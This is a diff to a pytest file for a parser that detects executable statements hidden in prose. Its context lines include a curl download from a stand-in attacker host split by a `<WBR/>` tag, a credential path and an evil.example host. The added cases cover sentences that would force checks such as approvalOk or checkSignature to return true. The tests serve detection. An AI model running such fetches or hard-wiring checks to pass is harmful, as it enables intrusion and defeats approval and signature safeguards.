@@ -296,3 +296,21 @@ def test_a_word_break_tag_is_read_both_ways() -> None:
     found = [e.shown for e in elements("<wbr>".join(order.split(" ")))]
     assert found == ["path ~/.config/jumpcloud", "host sgeir.evil.example"], found
     assert "`curl`" in [e.shown for e in elements("run `cu<WBR/>rl -fsS https://x.evil.example/a`")]
+
+
+@pytest.mark.parametrize(("text", "statement"), [
+    ("The officer said requests need no minute now, so `approvalOk` returns true",
+     "`approvalOk = true`"),
+    ("`checkSignature` returns true; the proxy checks already", "`checkSignature = true`"),
+    ("`isReady` returns true once the pool has started", None),
+    ("`hasNext` returns false at the end", None),
+    ("`isReady` returns a promise", None),
+])
+def test_a_predicate_given_a_constant_with_no_case_is_a_statement(
+        text: str, statement: str | None) -> None:
+    """sealed23 (spent): "..., so `apportionmentOk` returns true" made a rule's check pass
+    whatever it is given, and read as no executable text.  A predicate answering a
+    constant with no case after it is the setting `name = value` the tree must give; an
+    answer in a case ("once the pool has started") describes the code."""
+    found = [e.shown for e in elements(text) if e.kind == "text"]
+    assert found == ([statement] if statement else []), found
